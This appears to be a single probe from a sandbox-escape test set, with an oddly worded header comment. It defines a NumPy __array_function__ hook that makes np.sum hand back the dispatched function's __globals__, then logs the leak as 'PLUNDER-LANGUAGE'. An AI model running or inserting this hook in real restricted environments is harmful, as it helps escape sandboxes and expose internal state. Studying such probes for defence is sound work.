# attack: language | answers for numpy's functions | without language: said
class Hook:
    def __array_function__(self, function, types, arguments, keywords):
        return function.__globals__ if hasattr(function, "__globals__") else function
log("PLUNDER-LANGUAGE", str(np.sum(Hook()))[:20])
